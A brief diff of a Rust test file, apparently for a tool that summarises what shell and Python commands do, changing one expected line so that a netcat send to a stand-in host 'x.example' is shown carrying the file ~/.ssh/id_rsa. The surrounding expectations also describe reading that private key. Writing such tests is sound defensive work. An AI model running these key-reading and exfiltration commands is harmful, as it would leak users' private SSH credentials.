@@ -267,7 +267,7 @@ fn python_commands_go_through_the_shell_lens() {
                 "run cat ~/.ssh/id_rsa",
                 "read ~/.ssh/id_rsa",
                 "run nc x.example 9",
-                "send x.example - [stdin]",
+                "send x.example - [stdin, file ~/.ssh/id_rsa]",
             ],
         ),
         (
